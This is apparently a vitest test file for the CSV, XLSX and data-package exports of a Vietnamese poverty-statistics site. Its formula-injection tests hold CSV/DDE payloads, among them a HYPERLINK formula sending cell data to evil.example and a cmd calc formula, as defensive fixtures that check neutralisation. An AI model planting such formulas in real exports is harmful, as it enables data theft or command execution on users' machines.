import path from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { chartCsv } from '../src/domain/export/chart-csv.ts';
import { csvField, hundredthsText, toCsv } from '../src/domain/export/csv.ts';
import { releaseDownloads, releaseFiles } from '../src/domain/export/downloads.ts';
import { workbookXlsx, type WorkbookWriter } from '../src/domain/export/xlsx.ts';
import { downloadWords } from '../src/site/data/releases.ts';
import { sha256Of } from '../src/domain/export/datapackage.ts';
import { loadSnapshot } from '../src/domain/export/snapshot.ts';
import { observationsTable, releaseTables, tableCsv } from '../src/domain/export/tables.ts';
import { parseCsv } from '../src/domain/import/csv.ts';
import { MINI_RELEASE, miniFiles, writeMini } from './fixtures/mini.ts';

describe('CSV writing', () => {
  it('quotes only what needs quoting, doubles quotes, keeps line breaks inside quotes', () => {
    expect(csvField('Hoa Thám')).toBe('Hoa Thám');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('nói "không"')).toBe('"nói ""không"""');
    expect(csvField('dòng 1\ndòng 2')).toBe('"dòng 1\ndòng 2"');
    expect(csvField('dòng 1\r\ndòng 2')).toBe('"dòng 1\r\ndòng 2"');
    expect(csvField(' lề')).toBe('" lề"');
    expect(csvField(null)).toBe('');
    expect(csvField(1234)).toBe('1234');
  });
  it('writes a BOM, CRLF line ends, and parses back to the same cells', () => {
    const rows = [['a,b', 'x"y', 'dòng\nhai', null, 0]];
    const text = toCsv(['h1', 'h2', 'h3', 'h4', 'h5'], rows);
    expect(text.startsWith('\uFEFFh1,h2,h3,h4,h5\r\n')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseCsv(text, ',')).toEqual([['h1', 'h2', 'h3', 'h4', 'h5'], ['a,b', 'x"y', 'dòng\nhai', '', '0']]);
  });
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"x")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3+cmd|x', `"'-2+3+cmd|x"`],
    ['\tTAB', `"'\tTAB"`],
    ['\rCR', `"'\rCR"`],
  ])('neutralises formula-like text %j (OWASP): a leading quote, always quoted', (text, field) => {
    expect(csvField(text)).toBe(field);
  });
  it('keeps numbers numbers, negative ones too, however they are written', () => {
    expect([csvField(-1.04), csvField('-1.04'), csvField(hundredthsText(-104)), csvField('+3'), csvField('-12'), csvField(0)]).toEqual(['-1.04', '-1.04', '-1.04', '+3', '-12', '0']);
    const chart = chartCsv({ subject: { code: '181', name: 'Bình Gia' }, years: [2022], unit: 'percent', series: [{ column: 'reduction', title: 'r', points: [{ year: 2022, value: -104, illustrative: false }] }] });
    expect(chart).toBe('\uFEFFcode,name,year,reduction,reduction_illustrative\r\n181,Bình Gia,2022,-1.04,false\r\n');
  });
  it('prints hundredths exactly with two decimals', () => {
    expect(hundredthsText(1438)).toBe('14.38');
    expect(hundredthsText(5)).toBe('0.05');
    expect(hundredthsText(1220)).toBe('12.20');
    expect(hundredthsText(0)).toBe('0.00');
    expect(hundredthsText(undefined)).toBeNull();
  });
});

describe('release tables', () => {
  const { dataRoot } = writeMini((f) => {
    // 161 of 1,120 is exactly 14.375%: 14.38, where floating point gives 14.37
    const o = f.observations.observations.find((x: any) => x.unit === '10004' && x.year === 2024);
    o.households = 1120;
    o.poor = 161;
    o.nearPoor = 50;
    f.units.vintages[0].units.find((u: any) => u.code === '10004').name = 'Tân "Văn", mới';
  });
  const snapshot = loadSnapshot(dataRoot, MINI_RELEASE);

  it('observations.csv: one row per record with unit, parent, counts, exact rates and source', () => {
    const table = observationsTable(snapshot);
    expect(table.rows).toHaveLength(miniFiles().observations.observations.length);
    const csv = parseCsv(tableCsv(table), ',');
    const header = csv[0]!;
    const row = csv.find((r) => r[1] === '10004' && r[7] === '2024')!;
    const get = (name: string) => row[header.indexOf(name)];
    expect(get('name')).toBe('Tân "Văn", mới');
    expect(get('parent_code')).toBe('102');
    expect(get('parent_name')).toBe('Na Sầm');
    expect(get('poor_rate')).toBe('14.38');
    expect(get('near_poor_rate')).toBe('4.46');
    expect(get('source_kind')).toBe('synthetic');
    const withEm = csv.find((r) => r[1] === '10001' && r[7] === '2021')!;
    expect(withEm[header.indexOf('em_households')]).toBe('950');
    expect(withEm[header.indexOf('em_poor_rate')]).toBe('40.00');
    expect(row[header.indexOf('em_households')]).toBe('');
  });

  it('every table has as many header names as cells in each row', () => {
    for (const t of releaseTables(snapshot)) {
      for (const r of t.rows) expect(r).toHaveLength(t.fields.length);
      const parsed = parseCsv(tableCsv(t), ',').filter((r) => !(r.length === 1 && r[0] === ''));
      expect(parsed).toHaveLength(t.rows.length + 1);
    }
  });

  it('downloads are deterministic; JSON files are the stored bytes; datapackage describes every CSV with its hash', async () => {
    const entry = { id: MINI_RELEASE, title: 'T', status: 'published' as const, publishedAt: '2026-02-10' };
    const homepage = 'https://x.example/du-lieu/2025.1/';
    const a = await releaseDownloads(snapshot, entry, { homepage, words: downloadWords(entry, homepage) });
    const b = await releaseDownloads(loadSnapshot(dataRoot, MINI_RELEASE), entry, { homepage, words: downloadWords(entry, homepage) });
    expect(a.map((d) => [d.name, sha256Of(d.bytes)])).toEqual(b.map((d) => [d.name, sha256Of(d.bytes)]));
    expect(a.find((d) => d.name === 'units.json')!.bytes.equals(snapshot.bytes['units.json']!)).toBe(true);
    const pkg = JSON.parse(a.find((d) => d.name === 'datapackage.json')!.bytes.toString('utf8'));
    expect(pkg.licenses[0].name).toBe('CC-BY-4.0');
    for (const d of a.filter((x) => x.kind !== 'datapackage' && x.kind !== 'diff')) {
      const resource = pkg.resources.find((r: any) => r.path === d.name);
      expect(resource, d.name).toBeDefined();
      expect(resource.bytes).toBe(d.bytes.length);
      expect(resource.hash).toBe(`sha256:${sha256Of(d.bytes)}`);
    }
    const obs = pkg.resources.find((r: any) => r.name === 'observations');
    expect(obs.schema.primaryKey).toEqual(['vintage', 'code', 'year']);
    expect(obs.schema.fields.find((f: any) => f.name === 'poor').type).toBe('integer');
    expect(path.extname(obs.path)).toBe('.csv');
  });

  it('names every file before its workbooks are written, and the bytes come later under the same names', async () => {
    const entry = { id: MINI_RELEASE, title: 'T', status: 'published' as const, publishedAt: '2026-02-10' };
    const homepage = 'https://x.example/du-lieu/2025.1/';
    // Workbooks that are written only when the test says so, as on a busy build worker.
    const waiting: (() => void)[] = [];
    const held: WorkbookWriter = (sheets, meta) => new Promise((resolve) => waiting.push(() => resolve(workbookXlsx(sheets, meta))));
    const { files, downloads } = releaseFiles(snapshot, entry, { homepage, words: downloadWords(entry, homepage), writeWorkbook: held });
    let written = false;
    void downloads.then(() => (written = true));
    expect(waiting.length).toBeGreaterThan(1);
    expect(files.filter((f) => f.kind === 'xlsx' || f.kind === 'workbook')).toHaveLength(waiting.length);
    expect(files.map((f) => f.name)).toContain('datapackage.json');
    await new Promise((resolve) => setTimeout(resolve, 10));
    expect(written).toBe(false);
    for (const write of waiting) write();
    const done = await downloads;
    expect(done.map(({ bytes: _bytes, ...file }) => file)).toEqual(files);
    const direct = await releaseDownloads(snapshot, entry, { homepage, words: downloadWords(entry, homepage) });
    expect(done.map((d) => [d.name, sha256Of(d.bytes)])).toEqual(direct.map((d) => [d.name, sha256Of(d.bytes)]));
  });
});

describe('a profile withdrawn after its release was published', () => {
  const { dataRoot } = writeMini();
  const snapshot = loadSnapshot(dataRoot, MINI_RELEASE);
  const entry = { id: MINI_RELEASE, title: 'T', status: 'published' as const, publishedAt: '2026-02-10' };
  const homepage = 'https://x.example/du-lieu/2025.1/';
  const profileCell = (csv: string) => {
    const [header, row] = parseCsv(csv, ',');
    return row![header!.indexOf('profile')];
  };

  it('is left out of recognitions.csv and .xlsx, made at each build; the release\'s own recognitions.json keeps its slug, byte for byte', async () => {
    const files = await releaseDownloads(snapshot, entry, { homepage, words: downloadWords(entry, homepage), profiles: new Set(['mot-ho-khac']) });
    const csv = files.find((d) => d.name === 'recognitions.csv')!.bytes.toString('utf8');
    expect(profileCell(csv)).toBe('');
    expect(csv).not.toContain('xa-hoa-tham');
    for (const name of ['recognitions.xlsx', `lang-son-ho-ngheo-${MINI_RELEASE}.xlsx`]) {
      const parts = Object.values(unzipSync(new Uint8Array(files.find((d) => d.name === name)!.bytes))).map((part) => strFromU8(part)).join('');
      expect(parts, name).toContain('r-2025-001');
      expect(parts, name).not.toContain('xa-hoa-tham');
    }
    expect(files.find((d) => d.name === 'recognitions.json')!.bytes.equals(snapshot.bytes['recognitions.json']!)).toBe(true);
    expect(snapshot.bytes['recognitions.json']!.toString('utf8')).toContain('"profile": "xa-hoa-tham"');
  });

  it('a profile that has its page keeps its slug', () => {
    const table = releaseTables(snapshot, { profiles: new Set(['xa-hoa-tham']) }).find((t) => t.name === 'recognitions.csv')!;
    expect(profileCell(tableCsv(table))).toBe('xa-hoa-tham');
  });
});

describe('no formula leaves the site', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1+1'];
  // Written straight to disk, past the validator (which refuses them), as an attacker editing the JSON would.
  const { dataRoot } = writeMini((f) => {
    f.units.vintages[0].units[3].name = hostile[0];
    f.observations.sources[0].title = hostile[1];
    f.recognitions.recognitions[0].recipient.name = hostile[2];
    f.recognitions.recognitions[0].decision = hostile[3];
    f.crosswalks.sources[0].issuer = hostile[3];
  });
  it('every CSV download neutralises every formula-like cell', async () => {
    const entry = { id: MINI_RELEASE, title: 't', status: 'published' as const };
    const files = await releaseDownloads(loadSnapshot(dataRoot, MINI_RELEASE), entry, { homepage: 'https://example.org', words: downloadWords(entry, 'https://example.org') });
    const csvs = files.filter((f) => f.kind === 'csv');
    expect(csvs.length).toBeGreaterThan(0);
    let seen = 0;
    for (const f of csvs) {
      for (const row of parseCsv(f.bytes.toString('utf8').replace(/^\uFEFF/, ''), ',')) {
        for (const cell of row) {
          expect(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/.test(cell), `${f.name}: ${cell}`).toBe(false);
          if (hostile.some((h) => cell === `'${h}`)) seen++;
        }
      }
    }
    expect(seen).toBeGreaterThanOrEqual(hostile.length);
  });
});
